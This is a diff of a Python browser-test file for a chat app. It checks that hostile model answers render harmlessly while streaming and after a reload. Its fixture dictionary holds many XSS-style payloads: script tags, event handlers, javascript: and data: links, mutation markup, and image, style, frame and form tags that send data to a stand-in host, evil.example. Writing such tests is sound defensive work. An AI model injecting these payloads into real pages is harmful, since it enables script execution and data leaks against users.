@@ -1,4 +1,4 @@
-"""Answers that want to do harm: nothing of them runs, no request leaves, and what they say can be read."""
+"""Hostile answers: nothing in them runs, no request leaves the page, and their text is readable."""
 
 import re
 from collections.abc import Iterator
@@ -15,24 +15,36 @@ EVIL = "https://evil.example"
 FAMILY = "👩‍👩‍👧‍👦"
 
 ANSWERS: dict[str, str] = {
-    "script tags": "<script>window.ran = 1</script>\n\n<script src='https://evil.example/x.js'></script> after",
+    "script tags": "<script>window.ran = 1</script>\n\n"
+    "<script src='https://evil.example/x.js'></script> after",
     "split script tags": "<scr<script>ipt>window.ran = 1</scr</script>ipt> after",
-    "event handlers": '<img src=x onerror="window.ran = 1"> <svg onload="window.ran=1"><b onclick="window.ran=1">bold</b> after',
-    "addresses that run": "[a](javascript:window.ran=1) [b](JaVaScRiPt:window.ran=1) [c](data:text/html,<script>window.ran=1</script>) "
+    "event handlers": '<img src=x onerror="window.ran = 1"> <svg onload="window.ran=1">'
+    '<b onclick="window.ran=1">bold</b> after',
+    "script URLs": "[a](javascript:window.ran=1) [b](JaVaScRiPt:window.ran=1) "
+    "[c](data:text/html,<script>window.ran=1</script>) "
     "[d](vbscript:x) [e](\tjavascript:window.ran=1) <javascript:window.ran=1> after",
-    "images that tell": f"![x]({EVIL}/a.png?q=secret) ![y][z]\n\n[z]: {EVIL}/b.png\n\n<img src='{EVIL}/c.png'> after",
-    "style tricks": f'<style>body {{ background: url({EVIL}/s) }}</style><div style="position:fixed;inset:0;background:red">cover</div>'
+    "images that leak": f"![x]({EVIL}/a.png?q=secret) ![y][z]\n\n[z]: {EVIL}/b.png\n\n"
+    f"<img src='{EVIL}/c.png'> after",
+    "style tricks": f"<style>body {{ background: url({EVIL}/s) }}</style>"
+    '<div style="position:fixed;inset:0;background:red">cover</div>'
     f'<b style="background:url({EVIL}/t)">b</b> after',
-    "frames and forms": f"<iframe src='{EVIL}'></iframe><form action='{EVIL}'><input name=q><button>go</button></form>"
-    f"<object data='{EVIL}'></object><link rel=stylesheet href='{EVIL}/l.css'><meta http-equiv=refresh content='0;url={EVIL}'> after",
-    "names that shadow": '<a id="message" name="location">x</a><input id="page"> [x](#message) after',
-    "mutation": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.ran=1&gt;"> after',
-    "code that is none": "```<img src=x onerror=window.ran=1>\n</code></pre><script>window.ran=1</script>\n```\n\nafter",
-    "formulas": r"$\href{javascript:window.ran=1}{x}$ $\includegraphics{https://evil.example/f.png}$ $$\htmlStyle{position:fixed}{x}$$ "
+    "frames and forms": f"<iframe src='{EVIL}'></iframe><form action='{EVIL}'>"
+    "<input name=q><button>go</button></form>"
+    f"<object data='{EVIL}'></object><link rel=stylesheet href='{EVIL}/l.css'>"
+    f"<meta http-equiv=refresh content='0;url={EVIL}'> after",
+    "names that shadow": '<a id="message" name="location">x</a><input id="page"> [x](#message) '
+    "after",
+    "mutation": "<math><mtext><table><mglyph><style><!--</style>"
+    '<img title="--&gt;&lt;img src=1 onerror=window.ran=1&gt;"> after',
+    "markup in code": "```<img src=x onerror=window.ran=1>\n"
+    "</code></pre><script>window.ran=1</script>\n```\n\nafter",
+    "formulas": r"$\href{javascript:window.ran=1}{x}$ "
+    r"$\includegraphics{https://evil.example/f.png}$ "
+    r"$$\htmlStyle{position:fixed}{x}$$ "
     r"$\def\a{\a\a}\a$ after",
     "an unclosed fence": "```js\nlet a = '</code><script>window.ran = 1</script>'\nafter",
     "a line of 100 KB": "x" * 100_000 + " after",
-    "a line of 100 KB of signs": "*_[`" * 25_000 + " after",
+    "a line of 100 KB of Markdown characters": "*_[`" * 25_000 + " after",
     "a huge table": "| a | b | c |\n|---|---|---|\n"
     + "".join(f"| {n} | <b>{n}</b> | **{n}** |\n" for n in range(1500))
     + "\nafter",
@@ -46,19 +58,19 @@ ANSWERS: dict[str, str] = {
 
 
 def tokens_of(text: str) -> list[str]:
-    """Short pieces, cut without regard to what belongs together; long texts in larger ones."""
+    """Short pieces that split words and markup; larger ones for long texts."""
     size = 3 if len(text) < 2000 else 997
     return [text[start : start + size] for start in range(0, len(text), size)]
 
 
 @pytest.fixture(scope="module")
 def url(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
-    """An installation with a model that says all this."""
+    """The URL of an installation whose model sends these answers."""
     with ScriptedProvider() as scripted:
         scripted.texts.update({name: tokens_of(text) for name, text in ANSWERS.items()})
         settings = {
             "auth": {"guest_sessions_max_per_hour_per_ip": 1000},
-            "providers": {"said": scripted.provider()},
+            "providers": {"scripted": scripted.provider()},
         }
         system = System(
             tmp_path_factory.mktemp("hostile"), settings | {"generation": {"default_model": MODEL}}
@@ -82,7 +94,8 @@ def check_harmless(window: Window) -> None:
     assert window.faults == []
     assert (
         page.locator(
-            ".answer :is(script, img, iframe, object, embed, form, link, meta, style, [onclick], [onerror], [onload])"
+            ".answer :is(script, img, iframe, object, embed, form, link, meta, style, "
+            "[onclick], [onerror], [onload])"
         ).count()
         == 0
     )
@@ -102,7 +115,7 @@ def check_harmless(window: Window) -> None:
 
 @pytest.mark.slow
 @pytest.mark.parametrize("name", ANSWERS)
-def test_an_answer_can_do_no_harm_while_it_comes_and_once_it_is_there(
+def test_a_hostile_answer_is_harmless_while_streamed_and_after_a_reload(
     name: str, new_window: NewWindow
 ) -> None:
     window = new_window().open()
@@ -118,7 +131,7 @@ def test_an_answer_can_do_no_harm_while_it_comes_and_once_it_is_there(
 
 
 @pytest.mark.slow
-def test_characters_that_were_split_between_tokens_are_whole(new_window: NewWindow) -> None:
+def test_characters_split_between_tokens_are_shown_correctly(new_window: NewWindow) -> None:
     window = new_window().open()
 
     window.send("split characters")
@@ -128,10 +141,10 @@ def test_characters_that_were_split_between_tokens_are_whole(new_window: NewWind
 
 
 @pytest.mark.slow
-def test_a_picture_is_a_link_and_nothing_more(new_window: NewWindow) -> None:
+def test_images_are_shown_as_links(new_window: NewWindow) -> None:
     window = new_window().open()
 
-    window.send("images that tell")
+    window.send("images that leak")
     window.wait_until_settled()
 
     expect(window.text.get_by_role("link", name="x", exact=True)).to_have_attribute(
